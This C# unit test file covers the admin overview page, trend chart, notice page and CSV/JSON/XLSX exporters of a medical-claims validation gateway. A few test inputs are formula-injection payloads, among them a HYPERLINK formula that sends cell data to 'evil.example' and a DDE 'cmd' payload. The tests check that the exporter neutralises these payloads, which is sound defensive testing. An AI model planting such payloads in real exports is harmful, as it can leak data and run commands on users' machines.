using System.Text;
using System.Text.Json;
using DocumentFormat.OpenXml.Packaging;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Primitives;
using ValidationGateway.Core.Compliance;
using ValidationGateway.Core.Institutions;
using ValidationGateway.Server.Admin;
using ValidationGateway.Server.Reports;
using Xlsx = DocumentFormat.OpenXml.Spreadsheet;

namespace ValidationGateway.Server.Tests.Admin;

/// <summary>The pages, chart and exporters on given numbers, without a host.</summary>
public sealed class AdminRenderingTests
{
    private static readonly DateOnly Day = new(2026, 11, 22);

    private static InstitutionDayReport Report(string code, string name, int level, long lines, long reject, long warn = 0, decimal rejected = 0, InstitutionType type = InstitutionType.Hospital) =>
        new(new InstitutionRecord(code, name, level, type),
            new InstitutionDayStats(code, Day, lines == 0 ? 0 : 2, lines, lines - reject, lines - reject - warn, warn, reject,
                reject == 0 ? new Dictionary<string, long>() : new Dictionary<string, long> { ["MAPPING_UNREGISTERED"] = reject },
                lines * 10m, rejected, 0.5m,
                reject == 0 ? [] : [new LocalCodeCount("YP-" + code, "MAPPING_UNREGISTERED", reject)]),
            MappingRate: 0.75, FlagRate: 0.125);

    private static readonly InstitutionDayReport[] Reports =
    [
        Report("H21010200123", "第一医院", 3, lines: 100, reject: 5, rejected: 50m),
        Report("H21010200045", "中心医院, 和平区", 2, lines: 10, reject: 5, warn: 1, rejected: 40.5m),
        Report("H21010300018", "社区中心", 1, lines: 0, reject: 0),
        Report("P45010301036", "大药房\"青秀\"", 1, lines: 4, reject: 0, type: InstitutionType.Pharmacy),
    ];

    private static OverviewQuery Query(params (string Key, string Value)[] query) =>
        OverviewQuery.From(new QueryCollection(query.ToDictionary(p => p.Key, p => new StringValues(p.Value))));

    [Fact]
    public void Overview_Default_WorstRejectShareFirstAndIdleLast()
    {
        var rows = Query().Apply(Reports).Select(r => r.Institution.Code);
        Assert.Equal(["H21010200045", "H21010200123", "P45010301036", "H21010300018"], rows);
    }

    [Theory]
    [InlineData("name", "asc", new[] { "H21010200045", "H21010200123", "P45010301036", "H21010300018" })]
    [InlineData("lines", "desc", new[] { "H21010200123", "H21010200045", "P45010301036", "H21010300018" })]
    [InlineData("code", "asc", new[] { "H21010200045", "H21010200123", "H21010300018", "P45010301036" })]
    public void Overview_SortLinks_SortOnTheServer(string sort, string dir, string[] expected)
    {
        var rows = Query(("sort", sort), ("dir", dir)).Apply(Reports).Select(r => r.Institution.Code).ToArray();
        if (sort == "name")
        {
            expected = Reports.OrderBy(r => r.Institution.Name, StringComparer.Ordinal).Select(r => r.Institution.Code).ToArray();
        }

        Assert.Equal(expected, rows);
    }

    [Theory]
    [InlineData("region", "2101", 3)]
    [InlineData("region", "210103", 1)]
    [InlineData("region", "45", 1)]
    [InlineData("level", "3", 1)]
    [InlineData("type", "pharmacy", 1)]
    [InlineData("region", "<script>", 4)]
    public void Overview_Filters_KeepMatchingInstitutions(string key, string value, int count) =>
        Assert.Equal(count, Query((key, value)).Apply(Reports).Count);

    [Fact]
    public void Overview_Html_EncodesNamesLinksEachInstitutionAndOffersDownloads()
    {
        var html = OverviewPage.Render(Day, Day, Reports, Query());
        Assert.Contains("大药房&quot;青秀&quot;", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/admin/institutions/H21010200123?to=2026-11-22\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/admin/export?date=2026-11-22&amp;format=xlsx\"", html, StringComparison.Ordinal);
        Assert.Contains("<td class=\"num neg\" data-col=\"reject_share\">50.0%</td>", html, StringComparison.Ordinal);
        Assert.Contains("aria-sort=\"descending\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("style=", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Chart_BarsStackToTheLinesAndTheShareLineHasOnePointPerActiveDay()
    {
        var days = Enumerable.Range(0, 5).Select(i => i switch
        {
            1 => Report("H21010200123", "x", 3, lines: 40, reject: 10, warn: 5).Stats with { Day = Day.AddDays(i) },
            3 => Report("H21010200123", "x", 3, lines: 20, reject: 0).Stats with { Day = Day.AddDays(i) },
            _ => InstitutionDayStats.Empty("H21010200123", Day.AddDays(i)),
        }).ToArray();
        var svg = TrendChart.Render(days);
        var doc = System.Xml.Linq.XDocument.Parse(svg);
        var ns = (System.Xml.Linq.XNamespace)"http://www.w3.org/2000/svg";
        var bars = doc.Descendants(ns + "rect").Where(r => r.Attribute("data-count") is not null).ToArray();
        Assert.Equal(["25", "5", "10", "20"], bars.Select(b => b.Attribute("data-count")!.Value));
        // 40 lines on a 40-line axis fill the plot height (300 - 40 - 44 = 216).
        var height = bars.Where(b => b.Attribute("data-day")!.Value == "2026-11-23").Sum(b => double.Parse(b.Attribute("height")!.Value, System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(216, height, 0.5);
        // Days 1 and 3 have traffic, day 2 has none: two points, and the line breaks at day 2.
        Assert.Equal(2, doc.Descendants(ns + "circle").Count(c => (string?)c.Attribute("class") == "share-point"));
        Assert.All(doc.Descendants(ns + "polyline"), l => Assert.Single(l.Attribute("points")!.Value.Split(' ')));
    }

    [Fact]
    public void Chart_NoTraffic_DrawsAxesAndSaysSo()
    {
        var svg = TrendChart.Render([InstitutionDayStats.Empty("H21010200123", Day)]);
        Assert.Contains("No traffic in this range", svg, StringComparison.Ordinal);
        Assert.DoesNotContain("class=\"bar ", svg, StringComparison.Ordinal);
    }

    [Fact]
    public void Notice_StatesTheProblemsAndWhatToDo()
    {
        var html = NoticePage.Render(Reports[1], Day);
        Assert.Contains("中心医院, 和平区", html, StringComparison.Ordinal);
        Assert.Contains("2026年11月22日", html, StringComparison.Ordinal);
        Assert.Contains("拒付率 <span id=\"notice-reject-share\">50.0%</span>", html, StringComparison.Ordinal);
        Assert.Contains("本地编码未备案对照", html, StringComparison.Ordinal);
        Assert.Contains("YP-H21010200045", html, StringComparison.Ordinal);
        Assert.Contains("目录对照备案（3301）", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_QuotesFieldsWithCommasAndQuotesAndWritesInvariantNumbers()
    {
        var bytes = DailyReportExporter.Export(Reports, Day, ReportFormat.Csv);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var lines = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n");
        Assert.Equal(string.Join(",", DailyReportTable.Headers), lines[0]);
        Assert.Equal("2026-11-22,H21010200045,\"中心医院, 和平区\",hospital,2,210102,2,10,5,0.5000,4,1,5,0.5000,100.00,40.50,0.50,0.7500,0.1250", lines[1]);
        Assert.StartsWith("2026-11-22,P45010301036,\"大药房\"\"青秀\"\"\",pharmacy,1,450103,", lines[4], StringComparison.Ordinal);
        Assert.Equal("", lines[^1]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"")]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("+86 24 1234", "'+86 24 1234")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\0=1+1", "'\0=1+1")]
    [InlineData("第一医院=1+1", "第一医院=1+1")]
    public void Csv_TextStartingWithAFormulaCharacter_IsWrittenAsTextWithALeadingQuote(string name, string expected)
    {
        var bytes = DailyReportExporter.Export([Report("H21010200123", name, 3, lines: 4, reject: 0)], Day, ReportFormat.Csv);
        var row = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n")[1];
        Assert.StartsWith("2026-11-22,H21010200123," + expected + ",hospital,3,210102,", row, StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_FormulaInTheInstitutionCode_IsNeutralisedToo()
    {
        var bytes = DailyReportExporter.Export([Report("=1+1", "x", 3, lines: 0, reject: 0)], Day, ReportFormat.Csv);
        Assert.StartsWith("2026-11-22,'=1+1,x,hospital,", Encoding.UTF8.GetString(bytes[3..]).Split("\r\n")[1], StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_NegativeAmounts_StayNumbersWithoutAQuote()
    {
        var report = Report("H21010200123", "-退费医院", 3, lines: 2, reject: 1, rejected: -3.5m);
        report = report with { Stats = report.Stats with { AmountTotal = -12.5m } };
        var row = Encoding.UTF8.GetString(DailyReportExporter.Export([report], Day, ReportFormat.Csv)[3..]).Split("\r\n")[1];
        Assert.Equal("2026-11-22,H21010200123,'-退费医院,hospital,3,210102,2,2,1,0.5000,1,0,1,0.5000,-12.50,-3.50,0.50,0.7500,0.1250", row);
    }

    [Fact]
    public void Json_NumbersAreNumbersAndChineseIsReadable()
    {
        var bytes = DailyReportExporter.Export(Reports, Day, ReportFormat.Json);
        Assert.Contains("第一医院", Encoding.UTF8.GetString(bytes), StringComparison.Ordinal);
        using var json = JsonDocument.Parse(bytes);
        var first = json.RootElement[0];
        Assert.Equal("H21010200045", first.GetProperty("fixmedins_code").GetString());
        Assert.Equal(40.50m, first.GetProperty("amount_rejected").GetDecimal());
        Assert.Equal(5, first.GetProperty("findings_by_rule").GetProperty("MAPPING_UNREGISTERED").GetInt64());
        Assert.Equal("YP-H21010200045", first.GetProperty("top_failing_local_codes")[0].GetProperty("medins_list_codg").GetString());
    }

    [Fact]
    public void Xlsx_SameNumbersTwice_SameBytesAndReadableByOpenXml()
    {
        var bytes = DailyReportExporter.Export(Reports, Day, ReportFormat.Xlsx);
        Assert.Equal(bytes, DailyReportExporter.Export(Reports, Day, ReportFormat.Xlsx));
        var sheet = XlsxSheet.Read(bytes);
        Assert.Equal(DailyReportTable.Headers, sheet[0].Select(c => c.Text));
        Assert.Equal(("中心医院, 和平区", false), sheet[1][2]);
        Assert.Equal(("40.50", true), sheet[1][15]);
        Assert.Equal(("0.5000", true), sheet[1][13]);
    }

    [Fact]
    public void Xlsx_TextStartingWithAFormula_IsAQuotePrefixedInlineStringNeverAFormula()
    {
        const string Name = "=HYPERLINK(\"http://evil.example/\",\"点击\")";
        var report = Report("H21010200123", Name, 3, lines: 2, reject: 1, rejected: -3.5m);
        var bytes = DailyReportExporter.Export([report], Day, ReportFormat.Xlsx);
        using var stream = new MemoryStream(bytes);
        using var document = SpreadsheetDocument.Open(stream, false);
        var workbook = document.WorkbookPart!;
        var sheet = workbook.WorksheetParts.Single().Worksheet;
        Assert.Empty(sheet.Descendants<Xlsx.CellFormula>());
        var cells = sheet.Descendants<Xlsx.Row>().ElementAt(1).Elements<Xlsx.Cell>().ToArray();
        var name = cells[2];
        Assert.Equal(Xlsx.CellValues.InlineString, name.DataType!.Value);
        Assert.Equal(Name, name.InlineString!.InnerText);
        var formats = workbook.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<Xlsx.CellFormat>().ToArray();
        Assert.True(formats[(int)name.StyleIndex!.Value].QuotePrefix?.Value);
        var rejected = cells[15];
        Assert.Equal("-3.50", rejected.CellValue!.Text);
        Assert.Equal(Xlsx.CellValues.Number, rejected.DataType!.Value);
        Assert.NotEqual(true, formats[(int)(rejected.StyleIndex?.Value ?? 0)].QuotePrefix?.Value);
    }
}
